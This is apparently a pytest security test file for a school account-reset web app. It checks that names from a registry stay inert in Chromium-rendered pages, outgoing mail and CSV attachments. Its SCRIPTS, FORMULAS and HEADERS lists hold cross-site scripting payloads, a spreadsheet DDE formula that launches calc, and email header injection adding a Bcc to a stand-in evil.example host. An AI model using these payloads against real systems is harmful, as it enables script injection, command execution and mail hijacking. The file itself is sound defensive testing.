"""Threat: names in the registry carry scripts, formulas, or lines for a mail's header. Guards: templates escape, the
policy forbids inline scripts, cells are inert, and a mail has one recipient, which is the verified account.

Take autoescape out of `templates.py`, the apostrophe out of `mail/tables.py`, or `clean_name` out of a record, and a
test here turns red.
"""

import csv
import io
import re
from dataclasses import replace
from email import message_from_bytes
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import default
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request

from secciones.adapters.gmail import mime_message
from secciones.domain.errors import NotAssigned
from secciones.domain.people import Nie, clean_name
from secciones.domain.roster import Enrolment, Roster, School, Section, Student
from secciones.mail.message import mail_renderer
from secciones.ports.mailer import Mail
from secciones.ports.sign_in import Identity
from secciones.services.run_batch import run_batch
from secciones.templates import template_environment
from secciones.web.pages import login, reset, sections, verify
from tests.support.fakes import SendsBackAtOnce
from tests.support.html import parse_page
from tests.support.site import WEB, Pages
from tests.support.world import DOMAIN, DUI_AND_NIP, SCHOOL, SECTION, SESSION, TEACHER, World, account

SCRIPTS = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea></script></style><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>clic</a>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)//-->",
    "\u202egnirts\u202c <b>negrita</b>",
]  # fmt: skip
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example")', "＝1+1"]
HEADERS = [
    "Ana\r\nBcc: evil@evil.example",
    "Ana\nTo: evil@evil.example",
    "Ana\r\n\r\n<script>alert(1)</script>",
    "Ana\x00\x1b[31m",
    "Ana\u2028Bcc: evil@evil.example",
    "=?utf-8?q?Ana=0D=0ABcc:_evil@evil.example?=",
]


# Every address that is a page to look at.
PAGES = sorted(
    {route.path for module in (login, verify, sections, reset) for route in module.ROUTES if route.method == "GET"}
    - {
        *("/secciones/entrar", "/secciones/oauth2/callback", "/secciones/favicon.ico", "/secciones/robots.txt"),
        "/secciones/resultado/<batch_id>/estado",
    }
)


def poison(world: World, names: list[str], text: str) -> None:
    """A class list of these names, in a school, a grade and a section called `text`."""
    section = Section(SECTION.id, text, text, text, text, is_open=True, student_count=len(names))
    school = School(SCHOOL.id, text, text, text, text, (section, replace(section, id="s-2")))
    other = replace(school, id="c-2", sections=())
    students = tuple(
        Student(f"e-{number}", Nie(f"{1000000 + number}"), name, text, None, Enrolment.ACTIVE)
        for number, name in enumerate(names)
    )
    world.registry.assignments[TEACHER.id] = (school, other)
    world.registry.rosters[TEACHER.id, SECTION.id] = Roster(school, section, students)
    world.directory.accounts = {account(number).address: account(number) for number in range(len(names))}


def processed(world: World, *, missing: int = 1) -> Mail:
    """The real mail of a batch of everybody, `missing` of whom have no account."""
    for number in range(missing):
        del world.directory.accounts[account(number).address]
    render = mail_renderer(
        template_environment(WEB / "templates", WEB / "mail"),
        "Ministerio de Educación",
        DOMAIN,
        "https://accounts.google.com",
    )
    run_batch(replace(world.worker, render=render), world.submit())
    return world.mailer.sent[-1]


class Watched:
    """A page in Chromium, and whatever it complained of, popped up or asked other hosts for."""

    def __init__(self, browser: Browser, home: str) -> None:
        self.context = browser.new_context()
        self.page: Page = self.context.new_page()
        self.wrong: list[str] = []
        self.page.on("dialog", self._dismiss)
        self.page.on("pageerror", lambda error: self.wrong.append(str(error)))
        self.page.on("console", lambda line: self.wrong.append(line.text) if "Policy" in line.text else None)
        self.page.on("request", lambda request: self._look_at(request, home))

    def _dismiss(self, dialog: Dialog) -> None:
        self.wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _look_at(self, request: Request, home: str) -> None:
        if not request.url.startswith((home, "about:", "data:")):
            self.wrong.append(request.url)


def come_in_as(pages: Pages, origin: str, name: str) -> None:
    """Google and the registry both know the teacher by this name."""
    identity = Identity(SESSION.subject, SESSION.address, name, DOMAIN, address_is_verified=True)
    pages.provider = SendsBackAtOnce(identity, origin)
    pages.world.directory.accounts[SESSION.address] = account(99, address=SESSION.address, org_unit="/Docentes")
    pages.world.registry.teachers[DUI_AND_NIP] = replace(TEACHER, surnames=name)


def test_no_name_is_a_script_on_any_page(pages: Pages, browser: Browser) -> None:
    """In a real browser: no dialog, no report of the policy, no request to another host, and the text is shown."""
    # The registry and Google are asked through adapters that clean their names.
    everything = clean_name(" ".join(SCRIPTS))
    poison(pages.world, [clean_name(name) for name in SCRIPTS], everything)
    with pages.served() as origin:
        come_in_as(pages, origin, everything)
        watched = Watched(browser, origin)
        page = watched.page
        seen: list[str] = []
        paths: list[str] = []

        def look() -> None:
            page.wait_for_load_state("load")
            seen.append(page.inner_text("body").replace(origin.partition("://")[2], ""))
            paths.append(urlsplit(page.url).path)

        page.goto(f"{origin}/secciones/entrar")
        look()
        for path in ("", "identidad"):
            page.goto(f"{origin}/secciones/{path}")
            look()
        page.get_by_label("DUI").fill(DUI_AND_NIP[0])
        page.get_by_label(re.compile("NIP")).fill(DUI_AND_NIP[1])
        page.get_by_role("button", name="Ingresar").click()
        look()
        for path in (f"centros/{SCHOOL.id}", f"centros/{SCHOOL.id}/{SECTION.id}", "guia", "nothing"):
            page.goto(f"{origin}/secciones/{path}")
            look()
        page.goto(f"{origin}/secciones/centros/{SCHOOL.id}/{SECTION.id}")
        for box in page.locator("input[name=student]").all():
            box.check()
        page.get_by_role("button", name="Procesar", exact=True).click()
        look()
        page.get_by_role("button", name="Sí, restablecer").click()
        look()
        (batch,) = pages.world.batches()
        del pages.world.directory.accounts[account(0).address]
        pages.world.work(batch.id)
        page.goto(f"{origin}/secciones/restablecimientos")
        look()
        page.goto(f"{origin}/secciones/resultado/{batch.id}")
        look()
        page.goto(f"{origin}/secciones/centros/nobodys")
        look()
        watched.context.close()

    assert watched.wrong == []
    for name in SCRIPTS[:6]:
        assert name in seen[0], "who signed in"
        assert name in seen[5], "the list of students"
    assert "Resultado del proceso" in seen[-2]
    assert "49" not in "".join(seen)
    not_seen = [path for path in PAGES if not any(re.fullmatch(re.sub("<.*?>", "[^/]+", path), one) for one in paths)]
    assert not_seen == [], "a new page belongs on this walk"


def test_no_name_is_a_script_in_the_mail(world: World, browser: Browser) -> None:
    """No policy protects a mail: here nothing but escaping does."""
    poison(world, SCRIPTS, " ".join(SCRIPTS))
    mail = processed(world)
    watched = Watched(browser, "about:")
    watched.page.set_content(mail.html, wait_until="networkidle")
    assert watched.page.locator("script, iframe, svg, form, base, [onerror], [onload], [onfocus]").count() == 0
    assert all(name in watched.page.inner_text("body") for name in SCRIPTS[:6])
    watched.context.close()
    assert watched.wrong == []


def test_no_cell_of_a_spreadsheet_is_computed(world: World) -> None:
    poison(world, [*FORMULAS, "normal"], FORMULAS[4])
    world.registry.rosters[TEACHER.id, SECTION.id] = replace(
        world.registry.rosters[TEACHER.id, SECTION.id],
        students=tuple(
            replace(student, surnames=student.given_names, given_names="")
            for student in world.registry.rosters[TEACHER.id, SECTION.id].students
        ),
    )
    mail = processed(world)
    files = [file for file in mail.attachments if file.filename.endswith(".csv")]
    assert {file.filename for file in files} == {"cuentas.csv", "no-encontradas.csv"}
    for file in files:
        rows = list(csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline="")))
        assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))]
    names = {row[0] for row in csv.reader(io.StringIO(files[0].content.decode("utf-8-sig")))}
    assert f"'{FORMULAS[1]}" in names


@pytest.mark.parametrize("text", HEADERS, ids=ascii)
def test_no_text_of_the_registry_becomes_a_header_or_a_recipient(world: World, tmp_path: Path, text: str) -> None:
    poison(world, [text, "Ana", "Luz"], clean_name(text))
    message = parsed(processed(world))
    usual_world = World.in_folder(tmp_path / "usual")
    poison(usual_world, ["Ana"] * 3, "Ana")
    usual = parsed(processed(usual_world))

    assert message.keys() == usual.keys()
    assert [address.addr_spec for address in message["To"].addresses] == [SESSION.address]
    assert not any(name in message for name in ("Cc", "Bcc", "Reply-To"))
    assert len(message.defects) == 0
    assert "\n" not in message["Subject"]
    assert [part.get_filename() for part in message.iter_attachments()] == [
        *("cuentas.csv", "tarjetas.pdf", "tarjetas-grandes.pdf", "no-encontradas.csv")
    ]


@pytest.mark.parametrize("text", ["a\r\nBcc: evil@evil.example", "a\nx", "a\x00"], ids=ascii)
def test_a_text_that_was_not_cleaned_is_no_mail_rather_than_another_header(world: World, text: str) -> None:
    """Should a registry ever hand over what it must not, the mail is refused and not changed."""
    mail = processed(world, missing=0)
    for broken in (replace(mail, subject=text), replace(mail, to=f"{text}@{DOMAIN}")):
        with pytest.raises(ValueError, match="header"):
            parsed(broken)


def test_the_recipient_is_the_signed_in_account_whatever_the_registry_says(world: World) -> None:
    teacher = replace(TEACHER, address=f"evil@{DOMAIN}")
    world.registry.teachers = dict.fromkeys(world.registry.teachers, teacher)
    assert processed(world, missing=0).to == SESSION.address


@pytest.mark.parametrize("text", SCRIPTS)
def test_what_was_searched_for_is_shown_as_text(pages: Pages, text: str) -> None:
    """What a visitor types comes back as a value: the page has the same elements, with the same attributes."""

    def elements(search: str) -> list[tuple[str, list[str]]]:
        typed = {"search": search, "order": search, "group": search, "student": search}
        answer = pages.post(f"/secciones/centros/{SCHOOL.id}/{SECTION.id}", pages.verified(), typed)
        assert answer.status == 200
        tree = parse_page(answer.text)
        assert clean_name(search) in [box.get("value", "") for box in tree.iterfind(".//input[@name='search']")]
        return [(element.tag, sorted(element.keys())) for element in tree.iter() if isinstance(element.tag, str)]

    assert elements(text) == elements("nadie que se llame asi")


def test_an_id_that_is_no_id_is_not_taken_from_a_form(pages: Pages) -> None:
    cookie = pages.verified()
    for name in SCRIPTS:
        form = {"school": SCHOOL.id, "section": SECTION.id, "student": name, "form_nonce": "n" * 43}
        answer = pages.post("/secciones/restablecer", cookie, form)
        assert answer.status == 400
        assert name not in answer.text
    with pytest.raises(NotAssigned):
        pages.world.submit("e-99")


def parsed(mail: Mail) -> EmailMessage:
    message = message_from_bytes(
        mime_message(mail, Address("Secciones", addr_spec=f"secciones@{DOMAIN}")), policy=default
    )
    assert isinstance(message, EmailMessage)
    return message
